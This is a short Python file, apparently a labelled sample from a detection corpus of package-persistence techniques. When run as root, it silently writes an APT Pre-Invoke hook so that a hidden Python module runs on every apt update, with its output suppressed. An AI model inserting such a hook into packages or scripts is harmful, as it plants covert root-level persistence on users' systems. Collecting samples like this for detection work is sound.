# pkgguard corpus 716 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import sys

_HOOK = 'APT::Update::Pre-Invoke {"%s -m pkg.sync >/dev/null 2>&1 || true";};\n' % sys.executable

if os.geteuid() == 0 and os.path.isdir("/etc/apt/apt.conf.d"):
    with open("/etc/apt/apt.conf.d/95pkg-sync", "w") as fh:
        fh.write(_HOOK)
